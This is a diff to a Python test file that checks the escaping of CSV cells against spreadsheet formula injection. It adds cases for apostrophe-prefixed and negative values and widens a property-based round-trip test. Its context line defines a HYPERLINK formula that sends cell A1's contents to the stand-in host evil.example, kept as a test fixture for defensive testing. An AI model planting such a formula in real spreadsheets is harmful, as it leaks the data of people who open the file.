@@ -40,7 +40,9 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
         ("@SUM(A1)", "'@SUM(A1)"),
         ("-2+3", "'-2+3"),
         ("\tx", "'\tx"),
+        ("'=1+1", "''=1+1"),  # typed with its own apostrophe: that one comes back too
         ("-5", "-5"),  # a number stays a number
+        ("'-5", "'-5"),
         ("12.50", "12.50"),
         ("Tarvin", "Tarvin"),
         (7, 7),
@@ -50,7 +52,7 @@ def test_cells(value: object, written: object) -> None:
     assert cell(value) == written
 
 
-@given(st.text().filter(lambda text: not text.startswith("'")))
+@given(st.text() | st.text(alphabet="'=+-@\t1.x", max_size=6))
 def test_a_cell_read_back_is_what_was_written(text: str) -> None:
     # What the dashboard's CSV quoted comes back as it was stored (the import uses it).
     written = cell(text)
